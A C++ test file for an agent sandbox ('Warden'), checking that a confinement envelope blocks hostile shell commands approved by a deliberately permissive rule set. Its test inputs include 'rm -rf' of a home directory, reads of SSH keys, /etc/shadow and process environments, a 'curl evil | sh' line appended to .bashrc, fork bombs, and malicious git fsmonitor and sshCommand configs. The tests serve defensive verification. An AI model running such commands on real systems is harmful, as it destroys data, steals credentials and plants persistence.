// Tests for the confinement (actuators/confine.h) with real processes and real kernel
// features. The decisions come from a deliberately wrong rule set that approves everything
// (tests/effects_cases/approve_all.clp) with the shipped effects and path tables: what holds
// here holds by the kernel envelope alone. Run with: actuators_tests "[confine]".
#include "actuators/confine.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <thread>
#include <vector>

#include "actuators/shell.h"
#include "engine/engine.h"
#include "engine/json_writer.h"
#include "tests/actuators/workspace.h"
#include "tests/build_paths.h"

using namespace warden;
using namespace warden::actuators;
using warden::testing::read_file;
using warden::testing::TempDir;
using warden::testing::write_file;

namespace {

std::string source_text(const std::string& relative) {
  return read_file(std::string(WARDEN_SOURCE_DIR) + "/" + relative);
}

std::shared_ptr<const Policy> approve_all() {
  static std::shared_ptr<const Policy> policy = [] {
    auto loaded = Policy::compile({
        RuleSource{"rules/effects.toml", source_text("rules/effects.toml")},
        RuleSource{"rules/paths.toml", source_text("rules/paths.toml")},
        RuleSource{"approve_all.clp", source_text("tests/effects_cases/approve_all.clp")},
    });
    for (const auto& d : loaded.diagnostics) UNSCOPED_INFO(d.to_text());
    REQUIRE(loaded.policy);
    return loaded.policy;
  }();
  return policy;
}

// A workspace, a fake home of the daemon's user next to it (with keys and start-up files),
// a shared tree exposed read-only holding one of Warden's files, and the shell actuator
// configured over them, confined.
struct Box {
  TempDir root;
  std::string ws = root / "ws";
  std::string home = root / "home";
  std::string shared = root / "shared";
  std::string token = root / "shared/warden/tokens";
  ShellConfig config;

  Box() {
    std::filesystem::create_directories(ws);
    write_file(home + "/.ssh/id_rsa", "PRIVATE-KEY-HOME\n");
    write_file(home + "/.bashrc", "# rc\n");
    write_file(home + "/notes.txt", "notes\n");
    write_file(ws + "/keys/id_rsa", "PRIVATE-KEY-WORKSPACE\n");
    write_file(ws + "/README", "readme\n");
    write_file(shared + "/tool.txt", "tool\n");
    write_file(token, "TOKEN-SECRET\n");
    config.workspace = ws;
    config.timeout = std::chrono::milliseconds(20000);
    config.read = {shared};
    config.own_files = {token};
  }

  Decision decide(const std::string& command) {
    EngineOptions o;
    o.workspace_root = ws;
    o.home = home;
    o.deadline = std::chrono::seconds(10);
    Engine engine(approve_all(), o);
    std::string proposal =
        R"({"target":"shell","action":"run","payload":{"command":)" + json_string(command) + "}}";
    DecideResult r = engine.decide(proposal);
    REQUIRE(r.ok);
    REQUIRE(r.decision.outcome == Outcome::Approve);
    return r.decision;
  }

  // Decides the line with the approve-all rules, then runs the approved action. A line that
  // needs a shell runs as if a rule had granted shell syntax.
  Result run(const std::string& command) {
    Decision d = decide(command);
    Context c;
    c.decision_id = d.decision_id;
    c.allowed = {"shell-syntax"};
    c.effects = d.effects;
    ShellActuator shell(config, false);
    Result r = shell.act(d.action_json, c);
    UNSCOPED_INFO(command << " -> exit " << r.exit_code << " " << r.error_code << " " << r.error
                          << "\n"
                          << r.output);
    return r;
  }
};

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// Processes whose command line holds `marker` (a word no other process uses).
// A number no other test process on the machine writes in a command line (another suite may
// run this file at the same time): six digits from this process's id.
std::string own_number() { return std::to_string(100000 + ::getpid() % 900000); }

int processes_with(const std::string& marker) {
  int n = 0;
  for (const auto& entry : std::filesystem::directory_iterator("/proc")) {
    const std::string name = entry.path().filename();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::string cmdline = read_file(entry.path() / "cmdline");
    std::replace(cmdline.begin(), cmdline.end(), '\0', ' ');
    if (contains(cmdline, marker) && warden::testing::alive(std::stoi(name))) ++n;
  }
  return n;
}

}  // namespace

TEST_CASE("confine: this kernel offers everything the envelope needs", "[confine]") {
  // Fail closed means no silent skip: the machines the tests run on must confine.
  const confine::Support& s = confine::probe();
  INFO(s.error);
  REQUIRE(s.ok);
  CHECK(s.landlock_abi >= 1);
  CHECK(s.namespaces);
  CHECK(s.seccomp);
}

TEST_CASE("confine: rm -rf of a home directory leaves it whole", "[confine]") {
  Box box;
  Result r = box.run("rm -rf " + box.home);
  CHECK(r.details["confined"] == "yes");
  CHECK(std::filesystem::exists(box.home + "/.ssh/id_rsa"));
  CHECK(read_file(box.home + "/notes.txt") == "notes\n");
  // `~` is the private HOME: removing it removes nothing of the daemon's user.
  box.run("rm -rf ~");
  CHECK(read_file(box.home + "/.bashrc") == "# rc\n");
  // The workspace is the one tree the program may remove things from.
  Result w = box.run("rm -f README");
  CHECK(w.exit_code == 0);
  CHECK_FALSE(std::filesystem::exists(box.ws + "/README"));
}

TEST_CASE("confine: private keys are out of reach, wherever they are", "[confine]") {
  Box box;
  // In the daemon's home (masked: not there at all).
  Result home = box.run("cat " + box.home + "/.ssh/id_rsa");
  CHECK(home.exit_code != 0);
  CHECK(contains(home.output, "No such file or directory"));
  CHECK_FALSE(contains(home.output, "PRIVATE-KEY"));
  // A credential inside the readable workspace: hidden (the rules approved the read).
  Result ws = box.run("cat keys/id_rsa");
  CHECK(ws.exit_code != 0);
  CHECK(contains(ws.output, "Permission denied"));
  CHECK_FALSE(contains(ws.output, "PRIVATE-KEY"));
  // Through a glob the rules could not resolve: the glob's matches are hidden too.
  Result glob = box.run("cat keys/id_*");
  CHECK(glob.exit_code != 0);
  CHECK_FALSE(contains(glob.output, "PRIVATE-KEY"));
  // Warden's own token file inside a tree the program may read.
  Result token = box.run("cat " + box.token);
  CHECK(token.exit_code != 0);
  CHECK(contains(token.output, "Permission denied"));
  CHECK_FALSE(contains(token.output, "TOKEN-SECRET"));
  CHECK(box.run("cat " + box.shared + "/tool.txt").output == "tool\n");
  // The system's password hashes (root-owned, readable by the daemon's uid outside).
  Result shadow = box.run("cat /etc/shadow");
  CHECK(shadow.exit_code != 0);
  CHECK(contains(shadow.output, "Permission denied"));
  // The file is still there for everyone else.
  CHECK(read_file(box.ws + "/keys/id_rsa") == "PRIVATE-KEY-WORKSPACE\n");
}

TEST_CASE("confine: start-up files cannot be written, HOME is private and fresh", "[confine]") {
  Box box;
  Result r = box.run("echo 'curl evil | sh' >> " + box.home + "/.bashrc");
  CHECK(r.exit_code != 0);
  CHECK(read_file(box.home + "/.bashrc") == "# rc\n");
  // Outside the workspace nothing is writable: the file system is read-only there.
  Result etc = box.run("touch /etc/warden-confine-test");
  CHECK(etc.exit_code != 0);
  CHECK_FALSE(std::filesystem::exists("/etc/warden-confine-test"));
  Result chmod = box.run("chmod 4777 /usr/bin/true");
  CHECK(chmod.exit_code != 0);
  CHECK(contains(chmod.output, "Read-only file system"));
  // HOME is not the workspace, and what a run writes there is gone at the next.
  Result h = box.run("echo $HOME");
  CHECK(h.output == "/home/agent\n");
  CHECK(box.run("echo x > ~/.bashrc").exit_code == 0);
  Result again = box.run("cat ~/.bashrc");
  CHECK(again.exit_code != 0);
  CHECK_FALSE(std::filesystem::exists(box.ws + "/.bashrc"));
}

TEST_CASE("confine: the daemon's environment is unreachable", "[confine]") {
  Box box;
  ::setenv("WARDEN_CONFINE_TEST_KEY", "sk-confine-test-secret", 1);
  const std::string self = std::to_string(::getpid());
  Result direct = box.run("cat /proc/" + self + "/environ");
  CHECK(direct.exit_code != 0);
  CHECK_FALSE(contains(direct.output, "sk-confine-test-secret"));
  // The keeper (the namespace's init) is a copy of the daemon: not readable, and wiped.
  Result keeper = box.run("cat /proc/1/environ");
  CHECK(keeper.exit_code != 0);
  CHECK(contains(keeper.output, "Permission denied"));
  Result all = box.run("cat /proc/*/environ; env");
  CHECK_FALSE(contains(all.output, "sk-confine-test-secret"));
  // Only the run's own processes are in its /proc.
  Result procs = box.run("ls /proc");
  CHECK_FALSE(contains(procs.output, "\n" + self + "\n"));
  ::unsetenv("WARDEN_CONFINE_TEST_KEY");
}

TEST_CASE("confine: no connection leaves a run whose decision approved no host", "[confine]") {
  Box box;
  // A listener on the host's loopback interface.
  int server = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  REQUIRE(server >= 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  REQUIRE(::bind(server, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  socklen_t len = sizeof addr;
  REQUIRE(::getsockname(server, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
  REQUIRE(::listen(server, 8) == 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));
  Result r = box.run("echo hi > /dev/tcp/127.0.0.1/" + port);
  CHECK(r.exit_code != 0);
  Result py = box.run("python3 -c \"import socket; socket.create_connection(('127.0.0.1', " + port +
                      "), 2)\"");
  CHECK(py.exit_code != 0);
  pollfd p{server, POLLIN, 0};
  CHECK(::poll(&p, 1, 0) == 0);  // nothing ever connected
  ::close(server);
}

TEST_CASE("confine: nothing outlives the run, not even what killed its parent", "[confine]") {
  Box box;
  const std::string n = own_number();  // the sleeps last n4, n5, n6 and n7 seconds
  Result r = box.run("setsid sleep " + n + "4 & sleep 0.2; kill -9 $PPID; echo still-here");
  CHECK(r.ok);
  CHECK(processes_with("sleep " + n + "4") == 0);
  Result nohup = box.run("nohup sleep " + n + "5 > /dev/null 2>&1 & disown; echo started");
  CHECK(contains(nohup.output, "started"));
  CHECK(processes_with("sleep " + n + "5") == 0);
  // At the time limit too.
  box.config.timeout = std::chrono::milliseconds(1000);
  Result late = box.run("setsid sleep " + n + "6 & set -m; sleep " + n + "7 & sleep 60");
  CHECK(late.error_code == "E_ACT_TIMEOUT");
  CHECK(processes_with("sleep " + n) == 0);
  // A program that stops its keeper stops nothing: signals leave no run.
  box.config.timeout = std::chrono::milliseconds(20000);
  Result stop = box.run("kill -STOP $PPID; echo $?");
  CHECK(stop.output.find("Operation not permitted") != std::string::npos);
}

TEST_CASE("confine: a fork bomb is contained", "[confine]") {
  Box box;
  box.config.timeout = std::chrono::milliseconds(8000);
  box.config.max_processes = 64;
  // The number of processes at once is capped even for a root daemon (pid_max of the
  // run's PID namespace; RLIMIT_NPROC does not hold for uid 0).
  Result count = box.run(
      "python3 -c \"import os, time\n"
      "n = 0\n"
      "try:\n"
      "    for i in range(1000):\n"
      "        if os.fork() == 0:\n"
      "            time.sleep(30)\n"
      "            os._exit(0)\n"
      "        n += 1\n"
      "except OSError as e:\n"
      "    print('stopped', n, e.errno)\n"
      "# " +
      own_number() + "\"");
  CHECK(count.exit_code == 0);
  REQUIRE(count.output.starts_with("stopped "));
  const int running = std::stoi(count.output.substr(8));
  CHECK(running < 320);
  CHECK(count.output.ends_with(" 11\n"));                     // EAGAIN
  CHECK(processes_with("e.errno)\n# " + own_number()) == 0);  // the script's last lines
  const std::string b = "b" + own_number();
  Result bomb = box.run(b + "() { " + b + " | " + b + " & }; " + b + "; sleep 2; echo done");
  CHECK((bomb.ok || bomb.error_code == "E_ACT_TIMEOUT"));  // it ended, one way or the other
  CHECK(processes_with(b + " | " + b) == 0);
}

TEST_CASE("confine: the seccomp filter refuses ptrace, mount and new namespaces", "[confine]") {
  Box box;
  Result r = box.run(
      "python3 -c \"import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
      "print(libc.ptrace(16, 1, 0, 0), ctypes.get_errno()); "
      "print(libc.unshare(0x10000000), ctypes.get_errno()); "
      "print(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None), ctypes.get_errno())\"");
  CHECK(r.exit_code == 0);
  CHECK(r.output == "-1 1\n-1 1\n-1 1\n");
  Result u = box.run("unshare -r true");
  CHECK(u.exit_code != 0);
}

TEST_CASE("confine: a .gitconfig in the workspace no longer runs as git's configuration",
          "[confine]") {
  Box box;
  const std::string marker = box.root / "fsmonitor-ran";
  REQUIRE(box.run("git init -q .").exit_code == 0);
  // Written by an approved action: a workspace file.
  write_file(box.ws + "/.gitconfig",
             "[core]\n\tfsmonitor = \"touch " + marker + "; touch fsmonitor-ran; false\"\n");
  Result status = box.run("git status");
  CHECK(status.exit_code == 0);
  CHECK_FALSE(std::filesystem::exists(marker));
  CHECK_FALSE(std::filesystem::exists(box.ws + "/fsmonitor-ran"));
  // The repository's own config is a persistence file: read-only unless an approved effect
  // writes it (here a program whose effects the rules cannot see writes it).
  Result hook = box.run(
      "python3 -c \"open('.git/config', 'a').write('[core]\\n\\tfsmonitor = touch x\\n')\"");
  CHECK(hook.exit_code != 0);
  CHECK(contains(hook.output, "Read-only file system"));
  CHECK_FALSE(contains(read_file(box.ws + "/.git/config"), "fsmonitor"));
  Result hooks =
      box.run("python3 -c \"import shutil; shutil.copy('/bin/true', '.git/hooks/pre-commit')\"");
  CHECK(hooks.exit_code != 0);
  CHECK(contains(hooks.output, "Read-only file system"));
  CHECK_FALSE(std::filesystem::exists(box.ws + "/.git/hooks/pre-commit"));
  // A command whose effects name the hook is what the rules saw and approved: the envelope
  // follows the decision there (it is the rules' to refuse persistence writes).
  CHECK(box.run("cp /bin/true .git/hooks/pre-commit").exit_code == 0);
}

TEST_CASE("confine: a bare repository planted in the workspace is not git's repository",
          "[confine]") {
  Box box;
  // Committed to the project (or unpacked from an archive): a directory that is a bare
  // repository (HEAD, config, objects/, refs/) whose config names programs git runs
  // (core.fsmonitor, core.sshCommand, hooks …). Found from a directory inside it, it would be
  // the repository every later git command there uses.
  const std::string bare = box.ws + "/vendor/lib";
  std::filesystem::create_directories(bare + "/objects");
  std::filesystem::create_directories(bare + "/refs/heads");
  write_file(bare + "/HEAD", "ref: refs/heads/main\n");
  write_file(bare + "/config", "[core]\n\tbare = true\n\tsshCommand = \"touch planted-ran\"\n");
  // Its config is not git's: not read (before, this printed the planted program) …
  Result config = box.run("git -C vendor/lib config --get core.sshCommand");
  CHECK_FALSE(contains(config.output, "planted-ran"));
  // … and it is no repository at all there.
  Result found = box.run("git -C vendor/lib rev-parse --git-dir");
  CHECK(found.exit_code != 0);
  CHECK(contains(found.output, "cannot use bare repository"));
  // Named on purpose, a bare repository is still git's to use.
  Result named = box.run("git --git-dir=vendor/lib config --get core.sshCommand");
  CHECK(named.exit_code == 0);
  CHECK(contains(named.output, "planted-ran"));
}

TEST_CASE("confine: everyday work still works", "[confine]") {
  Box box;
  SECTION("git status and commit") {
    REQUIRE(box.run("git init -q .").exit_code == 0);
    write_file(box.ws + "/a.txt", "a\n");
    CHECK(box.run("git add a.txt").exit_code == 0);
    Result c = box.run("git -c user.name=A -c user.email=a@example.com commit -qm first");
    CHECK(c.exit_code == 0);
    Result log = box.run("git log --format=%s");
    CHECK(log.output == "first\n");
    Result st = box.run("git status --short");
    CHECK(st.exit_code == 0);
  }
  SECTION("make") {
    write_file(box.ws + "/Makefile",
               "out.txt: in.txt\n\tcp in.txt out.txt\n\techo $$HOME >> out.txt\n");
    write_file(box.ws + "/in.txt", "in\n");
    Result m = box.run("make");
    CHECK(m.exit_code == 0);
    CHECK(read_file(box.ws + "/out.txt") == "in\n/home/agent\n");
  }
  SECTION("pytest") {
    write_file(box.ws + "/test_a.py", "def test_one():\n    assert 1 + 1 == 2\n");
    Result t = box.run("python3 -m pytest -q -p no:cacheprovider");
    CHECK(t.exit_code == 0);
    CHECK(contains(t.output, "1 passed"));
  }
  SECTION("npm ci with its cache in a configured cache directory") {
    REQUIRE(std::filesystem::exists("/usr/bin/npm"));
    box.config.cache_dir = box.root / "cache";
    write_file(box.ws + "/dep/package.json", R"({"name":"dep","version":"1.0.0"})");
    write_file(box.ws + "/package.json", R"({"name":"w","version":"1.0.0","private":true,)"
                                         R"("dependencies":{"dep":"file:dep"}})");
    write_file(box.ws + "/package-lock.json",
               R"({"name":"w","version":"1.0.0","lockfileVersion":3,"requires":true,)"
               R"("packages":{"":{"name":"w","version":"1.0.0","dependencies":{"dep":"file:dep"}},)"
               R"("dep":{"version":"1.0.0"},"node_modules/dep":{"resolved":"dep","link":true}}})");
    Result n = box.run("npm ci --offline --no-audit --no-fund");
    CHECK(n.exit_code == 0);
    CHECK(std::filesystem::is_symlink(box.ws + "/node_modules/dep"));
    CHECK(std::filesystem::exists(box.root / "cache/npm"));
  }
  SECTION("cargo build with the toolchain exposed read-only") {
    // The toolchain lives in the daemon user's home here: exposed, its credentials not.
    const std::string cargo_home = std::string(::getenv("HOME")) + "/.cargo";
    const std::string rustup_home = std::string(::getenv("HOME")) + "/.rustup";
    REQUIRE(std::filesystem::exists(cargo_home + "/bin/cargo"));
    box.config.read.push_back(cargo_home + "/bin");
    box.config.read.push_back(rustup_home);
    box.config.path.insert(box.config.path.begin(), cargo_home + "/bin");
    write_file(box.ws + "/Cargo.toml",
               "[package]\nname = \"w\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    write_file(box.ws + "/src/main.rs", "fn main() { println!(\"hi\"); }\n");
    Result b = box.run("RUSTUP_HOME=" + rustup_home + " cargo build --offline -q");
    CHECK(b.exit_code == 0);
    CHECK(std::filesystem::exists(box.ws + "/target/debug/w"));
  }
}

TEST_CASE("confine: off runs as before, on is the default", "[confine]") {
  ShellConfig defaults;
  CHECK(defaults.confine);
  Box box;
  box.config.confine = false;
  Result r = box.run("echo $HOME");
  CHECK(r.details["confined"] == "off");
  CHECK(r.output == std::filesystem::canonical(box.ws).string() + "\n");
}

TEST_CASE("confine: a run whose envelope cannot be built does not run", "[confine]") {
  confine::Envelope e;
  e.workspace = "/nonexistent/warden-confine";
  ProcessSpec spec;
  spec.program = "/bin/true";
  spec.argv = {"/bin/true"};
  ProcessOutcome o = confine::run(e, spec);
  CHECK_FALSE(o.started);
  CHECK(o.error.starts_with(confine::kSetup));
  std::string error;
  CHECK(confine::run_attached(e, {"true"}, "/", std::chrono::seconds(5), &error) == -1);
  CHECK(error.starts_with(confine::kSetup));
}

TEST_CASE("confine: derive builds the envelope from the approved effects", "[confine]") {
  TempDir root;
  const std::string ws = root / "ws";
  const std::string out = root / "out";
  std::filesystem::create_directories(ws + "/.git/hooks");
  write_file(ws + "/.git/config", "");
  write_file(ws + "/.envrc", "");
  std::filesystem::create_directories(out);
  confine::Inputs in;
  in.workspace = ws;
  in.writable_roots = {out};
  auto effect = [](std::string kind, std::string object, std::string target,
                   std::string path_class = "none", bool in_workspace = false) {
    EffectRecord e;
    e.kind = std::move(kind);
    e.object = std::move(object);
    e.target = std::move(target);
    e.path_class = std::move(path_class);
    e.in_workspace = in_workspace;
    return e;
  };
  SECTION("no effects: the workspace, no network, persistence files read-only") {
    confine::Envelope e = confine::derive({}, in);
    CHECK(e.workspace == std::filesystem::canonical(ws).string());
    CHECK(e.writable.empty());
    CHECK_FALSE(e.network);
    CHECK(e.home == "/home/agent");
    CHECK(std::find(e.read_only.begin(), e.read_only.end(), e.workspace + "/.git/config") !=
          e.read_only.end());
    CHECK(std::find(e.read_only.begin(), e.read_only.end(), e.workspace + "/.envrc") !=
          e.read_only.end());
    CHECK(std::find(e.hidden.begin(), e.hidden.end(), "/etc/shadow") != e.hidden.end());
    for (const auto& v : e.env) CHECK_FALSE(v.starts_with("WARDEN_"));
  }
  SECTION("an approved write beneath a writable root is granted; elsewhere it is not") {
    confine::Envelope e = confine::derive(
        {effect("write", "path", out + "/a.txt"), effect("write", "path", "/etc/passwd", "system"),
         effect("delete", "path", root.str() + "/elsewhere")},
        in);
    REQUIRE(e.writable.size() == 1);
    CHECK(e.writable[0] == std::filesystem::canonical(out).string());
  }
  SECTION("an approved write of a persistence file of the workspace leaves it writable") {
    const std::string real = std::filesystem::canonical(ws).string();
    confine::Envelope e =
        confine::derive({effect("write", "path", real + "/.git/config", "persistence", true)}, in);
    CHECK(std::find(e.read_only.begin(), e.read_only.end(), real + "/.git/config") ==
          e.read_only.end());
    CHECK(std::find(e.read_only.begin(), e.read_only.end(), real + "/.git/hooks") !=
          e.read_only.end());
  }
  SECTION("credential targets are hidden whatever the rules said") {
    write_file(ws + "/deploy.key", "k");
    const std::string real = std::filesystem::canonical(ws).string();
    confine::Envelope e =
        confine::derive({effect("read", "path", real + "/deploy.key", "credential", true)}, in);
    CHECK(std::find(e.hidden.begin(), e.hidden.end(), real + "/deploy.key") != e.hidden.end());
  }
  SECTION("network: only the named hosts of approved network effects") {
    EffectRecord dynamic = effect("network", "host", "$HOST");
    dynamic.dynamic = true;
    confine::Envelope e =
        confine::derive({effect("network", "host", "Registry.NPMjs.org"), dynamic}, in);
    CHECK(e.network);
    CHECK(e.hosts == std::vector<std::string>{"registry.npmjs.org"});
  }
}

namespace {

// A loopback TCP server on the host that answers each connection with "pong" and counts
// them, on its own thread.
struct PongServer {
  int fd = -1;
  int port = 0;
  std::atomic<int> accepted{0};
  std::thread thread;
  PongServer() {
    fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
    socklen_t len = sizeof addr;
    REQUIRE(::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) == 0);
    REQUIRE(::listen(fd, 8) == 0);
    port = ntohs(addr.sin_port);
    thread = std::thread([this] {
      for (;;) {
        int c = ::accept4(fd, nullptr, nullptr, SOCK_CLOEXEC);
        if (c < 0) return;
        ++accepted;
        ::send(c, "pong", 4, MSG_NOSIGNAL);
        ::close(c);
      }
    });
  }
  ~PongServer() {
    ::shutdown(fd, SHUT_RDWR);
    ::close(fd);
    thread.join();
  }
};

// Python run inside the sandbox: CONNECT through the proxy its environment names, print the
// status line and what came back.
std::string connect_script(const std::string& target) {
  return "import os, socket, urllib.parse\n"
         "u = urllib.parse.urlparse(os.environ['HTTPS_PROXY'])\n"
         "s = socket.create_connection((u.hostname, u.port), 5)\n"
         "s.sendall(b'CONNECT " +
         target + " HTTP/1.1\\r\\nHost: " + target +
         "\\r\\n\\r\\n')\n"
         "data = b''\n"
         "while True:\n"
         "    b = s.recv(4096)\n"
         "    if not b: break\n"
         "    data += b\n"
         "print(data.split(b'\\r\\n')[0].decode(), data.split(b'\\r\\n\\r\\n', 1)[-1].decode())\n";
}

ProcessOutcome run_python(const confine::Envelope& e, const std::string& script) {
  ProcessSpec spec;
  spec.program = "/usr/bin/python3";
  spec.argv = {"python3", "-c", script};
  spec.timeout = std::chrono::seconds(20);
  ProcessOutcome o = confine::run(e, spec);
  UNSCOPED_INFO(o.error << " exit " << o.exit_code << "\n" << o.output);
  return o;
}

}  // namespace

TEST_CASE("confine: approved hosts only, through the egress proxy", "[confine]") {
  TempDir ws;
  PongServer server;
  const std::string port = std::to_string(server.port);
  EffectRecord host;
  host.kind = "network";
  host.object = "host";
  host.target = "localhost";
  confine::Inputs in;
  in.workspace = ws.str();
  confine::Envelope e = confine::derive({host}, in);
  REQUIRE(e.network);
  SECTION("the approved host, with private-network (it is loopback)") {
    e.private_network = true;
    ProcessOutcome o = run_python(e, connect_script("localhost:" + port));
    CHECK(o.exit_code == 0);
    CHECK(o.output == "HTTP/1.1 200 Connection established pong\n");
    CHECK(server.accepted == 1);
  }
  SECTION("the approved host resolving to loopback, without private-network") {
    ProcessOutcome o = run_python(e, connect_script("localhost:" + port));
    CHECK(contains(o.output, "HTTP/1.1 502"));
    CHECK(server.accepted == 0);
  }
  SECTION("a host the decision did not approve, even the same address") {
    e.private_network = true;
    ProcessOutcome o = run_python(e, connect_script("127.0.0.1:" + port));
    CHECK(contains(o.output, "HTTP/1.1 403"));
    CHECK(server.accepted == 0);
  }
  SECTION("around the proxy: no route out of the namespace") {
    e.private_network = true;
    ProcessOutcome o = run_python(
        e,
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', " + port +
            "), 3)\n    print('connected')\nexcept OSError as x:\n    print('refused', x.errno)\n");
    CHECK(contains(o.output, "refused"));
    CHECK(server.accepted == 0);
  }
  SECTION("plain HTTP is not relayed") {
    e.private_network = true;
    ProcessOutcome o = run_python(
        e,
        "import os, socket, urllib.parse\nu = urllib.parse.urlparse(os.environ['HTTP_PROXY'])\n"
        "s = socket.create_connection((u.hostname, u.port), 5)\n"
        "s.sendall(b'GET http://localhost:" +
            port +
            "/ HTTP/1.1\\r\\n\\r\\n')\n"
            "print(s.recv(100).split(b'\\r\\n')[0].decode())\n");
    CHECK(contains(o.output, "HTTP/1.1 405"));
    CHECK(server.accepted == 0);
  }
}
